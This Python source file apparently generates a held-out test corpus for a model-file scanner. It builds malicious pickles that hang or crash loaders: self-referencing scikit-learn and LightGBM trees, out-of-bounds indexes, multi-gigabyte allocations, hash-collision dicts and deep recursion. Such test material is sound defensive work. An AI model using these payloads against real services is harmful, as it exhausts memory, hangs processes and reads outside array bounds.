"""Held-out attacks: honest classes whose state hurts. No name is hostile; numbers, sizes and links are."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen_units import BOMB, BROKEN, CALL, STATE, Attack, Raw, build, call, name, new, op, pickled, stream

# A state that ends the process, or takes all memory or time: more than one rule says what is wrong with it.
ODD = BOMB | BROKEN | CALL | STATE | {"model-container-tampered", "model-path-traversal"}
NDARRAY = name("numpy:ndarray")


def dtype(text: str) -> Raw:
    return build(call("numpy:dtype", text, False, True), (3, "<", None, None, None, -1, -1, 0))


def record(*fields: tuple[str, str, int], size: int) -> Raw:
    names = tuple(f[0] for f in fields)
    places = {f[0]: (dtype(f[1]), f[2]) for f in fields}
    return build(call("numpy:dtype", f"V{size}", False, True), (3, "|", None, names, places, size, 1, 16))


def array(kind: Raw, shape: tuple[int, ...], data: bytes) -> Raw:
    made = call("numpy._core.multiarray:_reconstruct", NDARRAY, (0,), b"b")
    return build(made, (1, shape, kind, False, data))


NODE = record(("left_child", "i8", 0), ("right_child", "i8", 8), ("feature", "i8", 16), ("threshold", "f8", 24), ("impurity", "f8", 32), ("n_node_samples", "i8", 40), ("weighted_n_node_samples", "f8", 48), ("missing_go_to_left", "u1", 56), size=64)  # fmt: skip


def tree(*nodes: tuple[int, int, int], count: int | None = None) -> Raw:
    """scikit-learn's Tree: one feature, one class; nodes are (left, right, feature)."""
    rows = b"".join(struct.pack("<qqqddqdB7x", left, right, f, 0.5, 0.0, 1, 1.0, 0) for left, right, f in nodes)
    made = call("sklearn.tree._tree:Tree", 1, array(dtype("i8"), (1,), struct.pack("<q", 1)), 1)
    values = array(dtype("f8"), (len(nodes), 1, 1), b"\0" * 8 * len(nodes))
    state = {
        "max_depth": 1,
        "node_count": count or len(nodes),
        "nodes": array(NODE, (len(nodes),), rows),
        "values": values,
    }
    return build(made, state)


def sklearn() -> Iterator[Attack]:
    use = "; import numpy as np; x.predict(np.ones((4, 1), np.float32))"
    table = {
        "tree-cycle": ("a node is its own child: predict never ends", tree((0, 0, 0), (-1, -1, -2)), use),
        "tree-far-child": ("a child far behind the nodes: predict reads there", tree((1 << 40, 1 << 40, 0), (-1, -1, -2)), use),
        "tree-far-feature": ("a feature far behind the row: predict reads there", tree((1, 1, 1 << 45), (-1, -1, -2)), use),
        "tree-outputs": ("2^28 outputs: an array of them is made", call("sklearn.tree._tree:Tree", 1, call("numpy._core.multiarray:_reconstruct", NDARRAY, (1 << 33,), "i8"), 1 << 33), ""),
    }  # fmt: skip
    for what, (does, body, then) in table.items():
        yield pickled(
            "state-sklearn",
            what,
            does,
            body,
            rules=ODD,
            call=f"import pickle; x = pickle.load(open(F, 'rb')){then}",
            proof="bomb",
            loader="pickle.load, scikit-learn 1.9",
        )


def sizes() -> Iterator[Attack]:
    """Sizes that a few bytes ask for."""
    reconstruct = "numpy._core.multiarray:_reconstruct"
    big = 1 << 34
    masked = name("numpy.ma.core:MaskedArray")
    table = {
        "numpy-shape": ("_reconstruct makes an array of 16 GB", call(reconstruct, NDARRAY, (big,), b"b")),
        "numpy-shape-masked": ("_mareconstruct makes two of them", call("numpy.ma.core:_mareconstruct", masked, NDARRAY, (big,), "b")),
        "numpy-dtype": ("an element of 2^31 bytes", call(reconstruct, NDARRAY, (64,), "V2000000000")),
        "numpy-zeros": ("numpy.ones of 16 GB", call("numpy:ones", big, "u1")),
        "numpy-state": ("the state says 16 GB, the data is a list of one object a million times in the memo", Raw(call(reconstruct, NDARRAY, (0,), "O") + op((1, (1 << 32,), call("numpy:dtype", "O8", False, True), False, [None])) + b"b")),
        "bytearray": ("bytearray of 16 GB", call("builtins:bytearray", big)),
        "list-range": ("a list of a range", call("builtins:list", call("builtins:range", 1 << 40))),
        "set-range": ("a set of a range", call("builtins:set", call("builtins:range", 1 << 40))),
        "counter-range": ("a Counter counts a range", call("collections:Counter", call("builtins:range", 1 << 40))),
        "deque-range": ("a deque of length 1 uses up a range", call("collections:deque", call("builtins:range", 1 << 50), 1)),
        "dict-fromkeys": ("OrderedDict.fromkeys of a range", call("collections:OrderedDict.fromkeys", call("builtins:range", 1 << 40))),
        "fraction": ("Fraction computes 10 to the power of 10^10", call("fractions:Fraction", "1e9999999999")),
        "array": ("array.array uses up a range", call("array:array", "d", call("builtins:range", 1 << 40))),
        "tuple-memo": ("tuples of tuples: printing or hashing them doubles 64 times", _doubling(64)),
        "torch-storage": ("an untyped storage of 1 TB", call("torch:UntypedStorage", 1 << 40)),
        "torch-typed": ("a typed storage of 1 TB", call("torch:FloatStorage", 1 << 38)),
        "torch-qtensor": ("a tensor that repeats one number 2^40 times becomes an array", _expanded(), "; x.clone()"),
        "torch-sparse": ("a sparse tensor of a few numbers becomes dense", _sparse(), "; x.to_dense()"),
        "pandas-range": ("a RangeIndex of 2^50 becomes an array", call("pandas.core.indexes.base:_new_Index", name("pandas.core.indexes.range:RangeIndex"), {"start": 0, "stop": 1 << 50, "step": 1, "name": None}), "; x.to_numpy()"),
        "pandas-repeat": ("a categorical index that a period's range makes", call("pandas:period_range", "1900-01-01", "2900-01-01", None, "s")),
        "scipy-sparse": ("a sparse matrix of 10^6 x 10^6 becomes dense", _csr([0], [0, *[1] * 8], (8, 1 << 40)), "; x.toarray()"),
        "lstm-layers": ("an LSTM of 10^12 layers names its weights while it is loaded", build(new("torch.nn.modules.rnn:LSTM"), {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {}, "all_weights": [[1]], "num_layers": 10**12, "bidirectional": False, "bias": True, "proj_size": 0})),
        "int-text": ("LONG of a million digits, in protocol 0", Raw(b"L" + b"9" * 900000 + b"L\n")),
    }  # fmt: skip
    for what, (does, body, *then) in table.items():
        load = f"import sys; sys.set_int_max_str_digits(0); import pickle; x = pickle.load(open(F, 'rb')){then[0] if then else ''}"
        load += "; hash(x)" if what == "tuple-memo" else ""
        yield pickled("state-sizes", what, does, body, rules=ODD, call=load, proof="bomb")


def _doubling(depth: int) -> Raw:
    out = op((0,))
    for number in range(depth):
        out += b"q" + bytes([number + 32]) + b"h" + bytes([number + 32]) + b"\x86"
    return Raw(out)


def _storage(kind: str, numbers: bytes) -> Raw:
    """A tensor's storage from a pickle of torch's legacy layout inside of the pickle."""
    import pickle as p

    magic = p.dumps(0x1950A86A20F9469CFC6C, 2) + p.dumps(1001, 2)
    info = p.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
    )
    size = len(numbers) // {"FloatStorage": 4, "LongStorage": 8}[kind]
    body = stream(Raw(op(("storage", name(f"torch:{kind}"), "0", "cpu", size, None)) + b"Q"), proto=2)
    return call(
        "torch.storage:_load_from_bytes", magic + info + body + p.dumps(["0"], 2) + struct.pack("<q", size) + numbers
    )


def _tensor(kind: str, numbers: bytes, size: tuple[int, ...], stride: tuple[int, ...]) -> Raw:
    return call(
        "torch._utils:_rebuild_tensor_v2",
        _storage(kind, numbers),
        0,
        size,
        stride,
        False,
        call("collections:OrderedDict"),
    )


def _expanded() -> Raw:
    return _tensor("FloatStorage", b"\0\0\x80?", (1 << 20, 1 << 20), (0, 0))


def _sparse() -> Raw:
    place = _tensor("LongStorage", b"\0" * 16, (2, 1), (1, 1))
    value = _tensor("FloatStorage", b"\0\0\x80?", (1,), (1,))
    layout = call("torch.serialization:_get_layout", "torch.sparse_coo")
    return call(
        "torch._utils:_rebuild_sparse_tensor", layout, (place, value, call("torch:Size", (1 << 20, 1 << 20)), True)
    )


def _csr(columns: list[int], starts: list[int], shape: tuple[int, int]) -> Raw:
    ints = lambda v: array(dtype("i4"), (len(v),), struct.pack(f"<{len(v)}i", *v))  # noqa: E731
    state = {
        "_shape": shape,
        "maxprint": 50,
        "indices": ints(columns),
        "indptr": ints(starts),
        "data": array(dtype("f8"), (len(columns),), b"\0" * 8 * len(columns)),
    }
    return build(new("scipy.sparse._csr:csr_matrix"), state)


def places() -> Iterator[Attack]:
    """Indexes that lead out of an array; cycles; many keys of one hash."""
    prime = (1 << 61) - 1
    same = b"".join(b"\x8a\x0c" + (i * prime).to_bytes(12, "little", signed=True) + b"N" for i in range(1, 200_000))
    keys = b"".join(b"\x8a\x0c" + (i * prime).to_bytes(12, "little", signed=True) for i in range(1, 200_000))
    tree_text = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=a\nfeature_infos=[0:1]\n\nTree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=0 0\nsplit_gain=1 1\nthreshold=0.5 0.5\ndecision_type=2 2\nleft_child=1 0\nright_child=1 0\nleaf_value=0 0 0\nleaf_weight=1 1 1\nleaf_count=1 1 1\ninternal_value=0 0\ninternal_weight=1 1\ninternal_count=2 2\nis_linear=0\nshrinkage=1\n\n\nend of trees\n\npandas_categorical:null\n"
    light = build(
        new("lightgbm.basic:Booster"),
        {
            "_handle": tree_text,
            "pandas_categorical": None,
            "params": {},
            "_train_set": None,
            "train_set": None,
            "_network": False,
            "best_iteration": 0,
        },
    )
    xgb = build(
        new("xgboost.core:Booster"),
        {
            "handle": call(
                "builtins:bytearray", b"CONFIG-offset:" + struct.pack("<q", 1 << 40) + b"{L\0\0\0\0\0\0\0\x07learner"
            )
        },
    )
    table = {
        "colliding-keys": ("200,000 keys of one hash: the dict takes the square of that", Raw(b"}(" + same + b"u"), ""),
        "colliding-set": ("the same with ADDITEMS", Raw(b"\x8f(" + keys + b"\x90"), ""),
        "colliding-frozenset": ("the same with FROZENSET", Raw(b"(" + keys + b"\x91"), ""),
        "csr-columns": ("a sparse matrix's columns lead out of its rows: toarray writes there", _csr([1 << 30] * 8, [0, 8], (1, 4)), "; x.toarray()"),
        "csr-starts": ("a sparse matrix's rows begin behind its data", _csr([0], [0, 1 << 30], (1, 4)), "; x.toarray()"),
        "lightgbm-cycle": ("a pickled LightGBM model whose nodes are each other's children", light, "; import numpy; x.predict(numpy.ones((1, 1)))"),
        "xgboost-offset": ("a pickled XGBoost model whose configuration lies 1 TB behind it", xgb, ""),
        "deep-lists": ("3,000,000 lists in lists: freeing or printing them runs out of the stack", Raw(b"]" * 3_000_000 + b"a" * 2_999_999), "; repr(x)"),
        "self-tuple": ("a dict that is its own value, compared", Raw(b"}q\x01" + op("a") + b"h\x01s"), "; import pickle as p; y = p.load(open(F, 'rb')); x == y"),
        "recursive-reduce": ("functools.partial of itself: its repr and call never end", Raw(new("functools:partial", name("builtins:dict")) + b"q\x05" + b"(h\x05)}Ntb"), "; x()"),
    }  # fmt: skip
    for what, (does, body, then) in table.items():
        yield pickled(
            "state-places",
            what,
            does,
            body,
            rules=ODD,
            call=f"import pickle; x = pickle.load(open(F, 'rb')){then}",
            proof="bomb",
        )


def attacks() -> Iterator[Attack]:
    yield from sklearn()
    yield from sizes()
    yield from places()
